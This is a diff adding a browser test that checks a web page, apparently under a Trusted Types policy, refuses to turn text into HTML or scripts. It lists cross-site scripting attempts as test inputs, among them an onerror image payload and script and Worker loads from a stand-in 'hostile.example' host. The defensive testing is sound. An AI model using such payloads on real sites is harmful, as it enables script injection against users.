@@ -54,6 +54,34 @@ describe.skipIf(!canOpenPages)('the published page', () => {
     });
   });
 
+  test('lets no text become HTML or a script, but for what Leaflet writes when it is loaded', async () => {
+    await site.visit(async ({ page, complaints }) => {
+      const refused = await page.evaluate(() => {
+        const attempts = [
+          () => (document.createElement('div').innerHTML = '<svg/><img src=x onerror=alert(1)>'),
+          () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
+          () => (document.createElement('script').text = 'alert(1)'),
+          () => (document.createElement('script').src = 'https://hostile.example/x.js'),
+          () => new Worker('https://hostile.example/x.js'),
+          () => new Worker('data:text/javascript,1'),
+        ];
+        return attempts.map((attempt) => {
+          try {
+            attempt();
+            return 'done';
+          } catch (error) {
+            return error instanceof TypeError ? 'refused' : String(error);
+          }
+        });
+      });
+      expect(refused).toEqual(refused.map(() => 'refused'));
+      expect(await page.evaluate(() => (document.createElement('i').innerHTML = '<svg/>'))).toBe(
+        '<svg/>',
+      );
+      expect(complaints.filter((text) => !/Trusted/.test(text))).toEqual([]);
+    });
+  });
+
   test('leaves out a layer that is switched off, in list and map', async () => {
     await site.visit(async ({ page }) => {
       await page.getByText('表示するもの').click();
